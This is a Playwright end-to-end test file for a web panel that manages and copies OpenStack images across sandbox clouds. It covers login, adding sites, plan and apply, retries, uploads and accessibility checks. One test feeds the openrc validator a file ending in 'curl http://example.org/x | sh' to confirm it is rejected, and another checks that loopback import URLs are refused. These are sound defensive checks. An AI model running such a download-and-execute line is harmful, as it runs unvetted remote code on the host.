/**
 * The standalone page end to end in headless Chromium, against the real API, daemon and sandbox
 * clouds: log in through the page, add two sites from openrc files in the Sites view, see the
 * matrix fill, tick a cell, review the plan, apply, and watch the cell move to present in place (no
 * reload), then find the copy in the destination's Glance. Then the other views: images (upload,
 * details), jobs (retry), editing and removing a site. Screenshots go to test-output/panel/.
 */
import { mkdirSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { randomBytes } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import type { Browser, Page } from 'playwright-core';
import { CredentialCipher } from '@glint/store';
import { loadConfig } from '../../api/src/config';
import { CloudImages } from '../../../test-support/cloud-images';
import {
  addSandboxSites,
  login,
  testEnvironment,
  type Session,
  type TestEnvironment,
} from '../../../test-support/test-environment';
import { loadDaemonConfig, startDaemon, type RunningDaemon } from '../../daemon/src';
import { axeViolations, seriousViolations } from '../../../test-support/axe';

/** What axe-core found on every view once: content outside landmarks, no main, no level-one heading. */
const structureRules = ['region', 'landmark-one-main', 'page-has-heading-one'];
import { launchChromium } from '../../../test-support/browser-page';
import { passwordCredential, sandboxCloud, type SandboxCloud } from '../../../test-support/sandbox';

const MiB = 1024 * 1024;
const run = `panel-${randomBytes(4).toString('hex')}`;
const imageName = `${run}-debian`;
const screenshots = join(__dirname, '../../../test-output/panel');
const images = new CloudImages();
let env: TestEnvironment;
let server: FastifyInstance;
let user: Session;
/** Site cloud3 is added through the API; cloud1 and cloud2 through the page. */
let site: Record<'cloud3', string>;
let daemon: RunningDaemon;
let browser: Browser;
let page: Page;
let base: string;
const pageErrors: string[] = [];
/** What the console said was wrong, and requests answered 4xx or 5xx, until the first login. */
const beforeLogin: string[] = [];
let loggingIn = false;

beforeAll(async () => {
  mkdirSync(screenshots, { recursive: true });
  env = await testEnvironment();
  server = await env.start();
  user = await login(server);
  site = await addSandboxSites(server, user, { cloud3: 3 });
  await server.listen({ host: '127.0.0.1', port: 0 });
  base = `http://127.0.0.1:${(server.server.address() as AddressInfo).port}`;
  daemon = await startDaemon(
    loadDaemonConfig(env.env({ GLINT_INVENTORY_INTERVAL_SECONDS: '3600' })),
    () => {},
  );
  await images.seed(sandboxCloud(1), imageName, run, {}, 16 * MiB);
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1100, height: 760 } });
  page.on('pageerror', (error) => pageErrors.push(error.message));
  // Chromium logs every 4xx in the console; later tests cause some on purpose, opening the page
  // must cause none.
  page.on('console', (message) => {
    if (!loggingIn && message.type() === 'error') beforeLogin.push(message.text());
  });
  page.on('response', (response) => {
    if (!loggingIn && response.status() >= 400)
      beforeLogin.push(`${response.status()} ${response.url()}`);
  });
});

afterAll(async () => {
  await browser?.close();
  await daemon?.stop();
  for (const cloud of [2, 3]) {
    const adapter = images.adapter(sandboxCloud(cloud));
    for await (const image of adapter.listImages({ name: imageName, includeHidden: true }))
      await adapter.deleteImage(image.id).catch(() => {});
  }
  await images.close();
  await env?.close();
});

const shot = (name: string) => page.screenshot({ path: join(screenshots, `${name}.png`) });

const tab = (name: string) => page.click(`[role="tab"]:text-is("${name}")`);

/** An openrc file for the demo user of a sandbox cloud, without the password, as Horizon's are. */
function openrcOf(cloud: SandboxCloud): string {
  const demo = cloud.users.demo;
  return [
    '#!/usr/bin/env bash',
    `export OS_AUTH_URL=${cloud.authUrl}`,
    `export OS_PROJECT_NAME="${demo.projectName}"`,
    `export OS_PROJECT_DOMAIN_NAME="${demo.projectDomainName}"`,
    `export OS_USERNAME="${demo.username}"`,
    `export OS_USER_DOMAIN_NAME="${demo.userDomainName}"`,
    `export OS_REGION_NAME="${cloud.region}"`,
    'export OS_INTERFACE=public',
    'export OS_IDENTITY_API_VERSION=3',
    '',
  ].join('\n');
}

/** Fills the Sites view's openrc form and submits it. */
async function addOpenrcSite(
  name: string,
  openrc: string,
  password: string,
  labels: Record<string, string> = {},
) {
  const form = page.locator('glint-openrc-form');
  await form.locator('input[name="name"]').fill(name);
  for (const [i, [key, value]] of Object.entries(labels).entries()) {
    await form.locator('button.add-label').click();
    await form.locator(`#label-key-${i}`).fill(key);
    await form.locator(`input[aria-label="Label ${i + 1} value"]`).fill(value);
  }
  await form.locator('input[name="openrc"]').setInputFiles({
    name: `${name}-openrc.sh`,
    mimeType: 'text/x-shellscript',
    buffer: Buffer.from(openrc),
  });
  await form.locator('input[name="password"]').fill(password);
  await form.locator('button[type="submit"]').click();
}

/**
 * The cell of the test image on the site in column `col`, and matching `also` (playwright's CSS
 * pierces shadow roots). Redraws are asynchronous, so tests wait for a look rather than read it.
 */
const cell = (col: number, also = '') =>
  page.locator(`.row:has(.name:text-is("${imageName}")) .cell[data-col="${col}"]${also}`);

test('the server hands out the page and the bundle', async () => {
  const html = await fetch(`${base}/`);
  expect(html.headers.get('content-type')).toMatch(/^text\/html/);
  expect(await html.text()).toContain('<glint-panel api-base="">');
  const bundle = await fetch(`${base}/panel/glint-panel.js`);
  expect(bundle.status).toBe(200);
  expect(bundle.headers.get('content-type')).toMatch(/^text\/javascript/);
});

test('the page opens on a login with no error in the console, an icon, and nothing axe-core finds serious', async () => {
  await page.goto(base);
  await page.locator('input[name="username"]').waitFor();
  // The icon the page links to, which Chromium fetches meanwhile.
  const icon = await fetch(`${base}/favicon.svg`);
  expect([icon.status, icon.headers.get('content-type')]).toEqual([200, 'image/svg+xml']);
  expect(await seriousViolations(page)).toEqual([]);
  expect(beforeLogin).toEqual([]);
});

test('log in through the page, add two sites from openrc files, and see the matrix fill', async () => {
  const demo = sandboxCloud(1).users.demo;
  await page.fill('input[name="username"]', demo.username);
  await page.fill('input[name="password"]', demo.password);
  await page.fill('input[name="project"]', demo.projectName);
  await shot('login');
  loggingIn = true;
  await page.click('button[type="submit"]');
  await page.locator('[role="tab"][aria-selected="true"]:text-is("Matrix")').waitFor();
  // Who is logged in, in which project, with which rights there (the tests' settings make
  // Keystone's member a project admin).
  expect(await page.locator('glint-panel .user').innerText()).toMatch(
    new RegExp(`^${demo.username} · ${demo.projectName} \\(admin\\)\\s+Log out$`),
  );

  await tab('Sites');
  await page.locator('glint-sites-view tr[data-site="cloud3"]').waitFor();
  await page.click('glint-sites-view button.add');
  // A file with a command in it: the error names the line, beside the file field.
  const bad = `${openrcOf(sandboxCloud(1))}curl http://example.org/x | sh\n`;
  await addOpenrcSite('cloud1', bad, demo.password);
  const fileError = page.locator('glint-openrc-form [data-field="openrc"] .field-error');
  await fileError.waitFor();
  expect(await fileError.innerText()).toMatch(
    /openrc line 10: .*curl.*is not something an openrc file should contain/,
  );
  expect(
    await page.locator('glint-openrc-form input[name="openrc"]').getAttribute('aria-invalid'),
  ).toBe('true');
  expect(await page.locator('glint-openrc-form .field-error').count()).toBe(1);
  await shot('add-site-error');
  // A wrong password is the password field's error.
  await addOpenrcSite('cloud1', openrcOf(sandboxCloud(1)), 'wrong');
  await page
    .locator('glint-openrc-form [data-field="password"] .field-error', { hasText: /.+/ })
    .waitFor();

  await addOpenrcSite('cloud1', openrcOf(sandboxCloud(1)), demo.password);
  await page.locator('glint-sites-view tr[data-site="cloud1"]').waitFor();
  await page.click('glint-sites-view button.add');
  await addOpenrcSite('cloud2', openrcOf(sandboxCloud(2)), sandboxCloud(2).users.demo.password, {
    tier: 'prod',
  });
  const row = (name: string) => page.locator(`glint-sites-view tr[data-site="${name}"]`);
  for (const name of ['cloud1', 'cloud2', 'cloud3'])
    await row(name).locator('.health.ok').waitFor({ timeout: 30_000 });
  // Its labels under its name.
  expect((await row('cloud2').innerText()).replace(/\s+/g, ' ')).toMatch(
    new RegExp(`^cloud2 tier=prod openstack ${sandboxCloud(2).region} ${demo.username} `),
  );
  const [labelled] = await env.query<{ labels: unknown }>(
    "SELECT labels FROM sites WHERE name = 'cloud2'",
  );
  expect(labelled!.labels).toEqual({ tier: 'prod' });
  // The inventory the page queued for the new sites lands, and the list follows it.
  await row('cloud1')
    .locator('td:nth-of-type(4):not(:text-is("never"))')
    .waitFor({ timeout: 60_000 });
  await shot('sites');

  await tab('Matrix');
  await page.fill('input.filter', run);
  await page.locator('.count', { hasText: '1 image · 3 sites' }).waitFor({ timeout: 60_000 });
  await cell(0).waitFor();
  expect(await page.locator('[role="columnheader"]').allInnerTexts()).toEqual([
    'Image',
    'Size',
    expect.stringMatching(/^cloud1\s/),
    expect.stringMatching(/^cloud2\s/),
    expect.stringMatching(/^cloud3\s/),
  ]);
  // Seeded outside Glint, so without its markers.
  expect(await cell(0).getAttribute('data-state')).toBe('unmanaged');
  expect(await cell(1).getAttribute('data-state')).toBe('missing');
  await shot('matrix');
});

test('tick a cell, review the plan, apply, and watch the copy land in place', async () => {
  const target = cell(1);
  // Keyboard first: Space toggles the focused cell, a second Space takes the change back.
  await target.focus();
  await page.keyboard.press('Space');
  await cell(1, '.changed[aria-selected="true"]').waitFor();
  await page.keyboard.press('Space');
  await cell(1, ':not(.changed)[aria-selected="false"]').waitFor();
  await target.click();
  await cell(1, '.changed[aria-selected="true"]').waitFor();

  await page.click('button.review');
  const copies = page.locator('glint-plan-review .copies li');
  await copies.waitFor();
  expect((await copies.innerText()).replace(/\s+/g, ' ')).toBe(
    `${imageName} from cloud1 to cloud2 (16 MiB)`,
  );
  await shot('plan');

  // The same element must change state in place, and the page must not reload.
  await target.evaluate((element) => {
    const seen: string[] = [];
    (window as unknown as { glintSeen: string[] }).glintSeen = seen;
    new MutationObserver(() => {
      // Every draw sets the attribute; only changes count.
      const state = element.getAttribute('data-state')!;
      if (state !== (seen.at(-1) ?? 'missing')) seen.push(state);
    }).observe(element, { attributeFilter: ['data-state'] });
  });
  await page.click('glint-plan-review button.apply');
  await page
    .locator(
      `.row:has(.name:text-is("${imageName}")) .cell[data-col="1"]:not([data-state="missing"])`,
    )
    .waitFor();
  await shot('applied');
  await cell(1, '[data-state="present"]').waitFor({ timeout: 120_000 });
  // Past the cell's 300 ms colour transition, so the screenshot shows the settled look.
  await page.waitForTimeout(400);
  await shot('present');
  const seen = await page.evaluate(() => (window as unknown as { glintSeen: string[] }).glintSeen);
  expect(seen.at(-1)).toBe('present');
  expect(['queued', 'transferring']).toContain(seen[0]);
  expect(seen.every((state) => ['queued', 'transferring', 'present'].includes(state))).toBe(true);

  const onTwo = [];
  for await (const image of images.adapter(sandboxCloud(2)).listImages({ name: imageName }))
    onTwo.push(image);
  expect(onTwo).toEqual([
    expect.objectContaining({ status: 'active', size: 16 * MiB, name: imageName }),
  ]);
  expect(pageErrors).toEqual([]);
});

/** Stores a wrong password as site cloud3's credential, as the API never would. */
async function breakCloud3(): Promise<void> {
  const [row] = await env.query<{ owner_id: string }>('SELECT owner_id FROM sites WHERE id = $1', [
    site.cloud3,
  ]);
  const ownerId = row!.owner_id;
  const wrong = new CredentialCipher(loadConfig(env.env()).credentialKeys).seal(
    { kind: 'password', username: sandboxCloud(3).users.demo.username, password: 'wrong' },
    { ownerId, siteId: site.cloud3 },
  );
  await env.query(
    'UPDATE credentials SET key_id = $3, nonce = $4, ciphertext = $5, auth_tag = $6 WHERE owner_id = $1 AND site_id = $2',
    [ownerId, site.cloud3, wrong.keyId, wrong.nonce, wrong.ciphertext, wrong.authTag],
  );
}

test('an error cell shows its message, and its retry works once the cause is fixed', async () => {
  await breakCloud3();
  await cell(2).click();
  await page.click('button.review');
  await page.locator('glint-plan-review .copies li', { hasText: 'to cloud3' }).waitFor();
  await page.click('glint-plan-review button.apply');
  const failed = cell(2, '[data-state="error"]');
  await failed.waitFor({ timeout: 120_000 });
  await failed.focus();
  const detail = page.locator('.detail', { hasText: 'cloud3' });
  await detail.waitFor();
  expect(await detail.innerText()).toMatch(/error — .*(401|password|credential|authenticat)/i);
  expect(await failed.getAttribute('title')).toMatch(/^cloud3: error — /);
  await page.waitForTimeout(400);
  await shot('error');

  const fixed = await server.inject({
    method: 'PATCH',
    url: `/api/v1/sites/${site.cloud3}`,
    headers: user.headers,
    payload: { credential: passwordCredential(sandboxCloud(3)) },
  });
  expect(fixed.statusCode).toBe(200);
  await page.click('.detail button.retry');
  await cell(2, '[data-state="present"]').waitFor({ timeout: 120_000 });
  await page.waitForTimeout(400);
  await shot('retried');
  expect(pageErrors).toEqual([]);
});

test('the Jobs view shows the failed copy with its error, and retries it', async () => {
  await tab('Jobs');
  const jobs = page.locator('glint-jobs-view');
  await jobs.locator('select[name="state"]').selectOption('failed');
  const failed = jobs.locator('tr[data-state="failed"]', { hasText: imageName });
  await failed.waitFor();
  expect((await failed.innerText()).replace(/\s+/g, ' ')).toMatch(
    /^failed copy .* cloud[12] → cloud3 .*(401|password|credential|authenticat)/i,
  );
  // The failed jobs only, once the filtered page is in.
  await jobs.locator('.count', { hasText: /^1 job$/ }).waitFor();
  expect(await jobs.locator('tbody tr').count()).toBe(1);
  await jobs.locator('select[name="state"]').selectOption('');
  await jobs.locator('select[name="site"]').selectOption({ label: 'cloud3' });
  const copies = jobs.locator('tr', { hasText: / → cloud3/ });
  await copies.nth(1).waitFor();
  expect(await copies.count()).toBe(2);
  await shot('jobs');
  await jobs.locator('tr[data-state="failed"] button.retry').click();
  // The planner reads from cloud1 or cloud2, whichever it prefers: both hold the image now.
  // The retry is a new job; events bring it in and move it to succeeded without a reload.
  await copies.nth(2).waitFor();
  await jobs
    .locator('tr[data-state="succeeded"]', { hasText: / → cloud3/ })
    .nth(1)
    .waitFor({
      timeout: 120_000,
    });
  expect(await jobs.locator('tr[data-state="failed"]').count()).toBe(1);
  expect(pageErrors).toEqual([]);
});

test('the Images view uploads a file with a progress bar, and shows the image’s details', async () => {
  await tab('Images');
  const upload = page.locator('glint-image-upload');
  const size = 8 * MiB + 5;
  await upload.locator('input[name="file"]').setInputFiles({
    name: `${run}-upload.raw`,
    mimeType: 'application/octet-stream',
    buffer: randomBytes(size),
  });
  for (const name of ['cloud1', 'cloud2'])
    await upload.locator('label.choice', { hasText: name }).locator('input').check();
  await upload.locator('button[type="submit"]').click();
  const outcome = upload.locator('.outcome');
  await outcome.waitFor({ timeout: 120_000 });
  expect(await outcome.innerText()).toBe('copied to cloud1; copied to cloud2');
  const progress = upload.locator('progress');
  expect(await progress.evaluate((bar: HTMLProgressElement) => [bar.value, bar.max])).toEqual([
    size,
    size,
  ]);
  expect(await upload.locator('.sent').innerText()).toBe('8.0 MiB of 8.0 MiB');
  await shot('images');

  // A URL on an internal address is refused, and the refusal shows beside the URL.
  const importForm = page.locator('glint-image-import');
  await importForm.locator('input[name="url"]').fill('http://127.0.0.1:9/x.raw');
  await importForm.locator('input[name="name"]').fill(`${run}-import`);
  await importForm.locator('label.choice', { hasText: 'cloud1' }).locator('input').check();
  await importForm.locator('button[type="submit"]').click();
  await importForm
    .locator('[data-field="url"] .field-error', { hasText: /internal|loopback|refuse/i })
    .waitFor();

  // The upload's inventory brings the image into the list.
  await page.fill('glint-images-view input.search', `${run}-upload`);
  await page.click(`glint-images-view button.image:has-text("${run}-upload.raw")`);
  const details = page.locator('glint-image-details');
  await details.locator('tr[data-site="cloud1"] td.state[data-state="present"]').waitFor();
  expect(await details.locator('.hash').innerText()).toMatch(/^sha512: [0-9a-f]{128}$/);
  expect(await details.locator('tr[data-site="cloud2"]').innerText()).toMatch(
    /present[\s\S]*active · private[\s\S]*[0-9a-f]{32}[\s\S]*glint_source_site upload[\s\S]*glint_content_hash matches the content hash/,
  );
  expect(await details.locator('tr[data-site="cloud3"]').innerText()).toMatch(/missing\s+no copy/);
  await details.scrollIntoViewIfNeeded();
  await shot('image-details');

  // A copy's marker names the site it came from by its name.
  await page.fill('glint-images-view input.search', imageName);
  await page.click(`glint-images-view button.image:has-text("${imageName}")`);
  await details.locator('h3', { hasText: imageName }).waitFor();
  expect(await details.locator('tr[data-site="cloud2"]').innerText()).toMatch(
    /glint_source_site cloud1\b/,
  );

  // The upload's job is named for the image it made.
  await tab('Jobs');
  const jobs = page.locator('glint-jobs-view');
  await jobs.locator('select[name="site"]').selectOption('');
  await jobs.locator('select[name="operation"]').selectOption('upload');
  const uploaded = jobs.locator('tr[data-state="succeeded"]', { hasText: `${run}-upload.raw` });
  await uploaded.waitFor();
  expect((await uploaded.innerText()).replace(/\s+/g, ' ')).toMatch(
    new RegExp(`^succeeded upload ${run}-upload\\.raw cloud1, cloud2 `),
  );
  await jobs.locator('select[name="operation"]').selectOption('');
  expect(pageErrors).toEqual([]);
});

test('every tab, with what it shows, has nothing axe-core finds serious or critical', async () => {
  for (const name of ['Matrix', 'Sites', 'Rules', 'Images', 'Jobs', 'Releases']) {
    await tab(name);
    await page.locator(`[role="tab"][aria-selected="true"]:text-is("${name}")`).waitFor();
    expect({ tab: name, violations: await seriousViolations(page) }).toEqual({
      tab: name,
      violations: [],
    });
    const structure = (await axeViolations(page)).filter((v) => structureRules.includes(v.id));
    expect({ tab: name, structure }).toEqual({ tab: name, structure: [] });
  }
});

test('a session that ended brings the login back, and logging in again the matrix', async () => {
  await tab('Matrix');
  await page.context().clearCookies();
  await page.fill('input.filter', `${run}-nothing`);
  await page.locator('input[name="username"]').waitFor();
  const demo = sandboxCloud(1).users.demo;
  await page.fill('input[name="username"]', demo.username);
  await page.fill('input[name="password"]', demo.password);
  await page.fill('input[name="project"]', demo.projectName);
  await page.click('button[type="submit"]');
  await page.fill('input.filter', run);
  await cell(1, '[data-state="present"]').waitFor();
  expect(pageErrors).toEqual([]);
});

test('Log out ends the session: the login comes back, and the session is gone', async () => {
  const cookies = await page.context().cookies();
  await page.click('glint-panel button.logout');
  await page.locator('input[name="username"]').waitFor();
  const cookie = cookies.map((c) => `${c.name}=${c.value}`).join('; ');
  const session = await fetch(`${base}/api/v1/auth/session`, { headers: { cookie } });
  expect(await session.json()).toEqual({ authenticated: false });
  const demo = sandboxCloud(1).users.demo;
  await page.fill('input[name="username"]', demo.username);
  await page.fill('input[name="password"]', demo.password);
  await page.fill('input[name="project"]', demo.projectName);
  await page.click('button[type="submit"]');
  await page.locator('[role="tab"][aria-selected="true"]:text-is("Matrix")').waitFor();
  await page.fill('input.filter', run);
  expect(pageErrors).toEqual([]);
});

test('the Sites view edits a site and removes one after a confirmation', async () => {
  await tab('Sites');
  const sites = page.locator('glint-sites-view');
  await sites.locator('tr[data-site="cloud2"] button.edit').click();
  const edit = sites.locator('glint-site-edit');
  await edit.locator('select[name="selfHeal"]').selectOption('restore');
  await edit.locator('input[name="password"]').fill('wrong');
  await edit.locator('button[type="submit"]').click();
  // A new password is checked by a live login first; refused, nothing is saved.
  await edit.locator('[data-field="password"] .field-error').waitFor();
  await edit.locator('input[name="password"]').fill('');
  await edit.locator('button[type="submit"]').click();
  await sites.locator('tr[data-site="cloud2"] td:nth-of-type(5):text-is("restore")').waitFor();

  await sites.locator('tr[data-site="cloud2"] button.remove').click();
  await sites.locator('tr.confirm', { hasText: 'Remove cloud2' }).waitFor();
  await shot('remove-site');
  await sites.locator('button.confirm-remove').click();
  await sites.locator('tr[data-site="cloud2"]').waitFor({ state: 'detached' });
  const [row] = await env.query<{ count: string }>(
    "SELECT count(*) FROM sites WHERE name = 'cloud2'",
  );
  expect(row!.count).toBe('0');
  await tab('Matrix');
  // The upload's image matches the filter too.
  await page.locator('.count', { hasText: '2 images · 2 sites' }).waitFor();
  expect(pageErrors).toEqual([]);
});
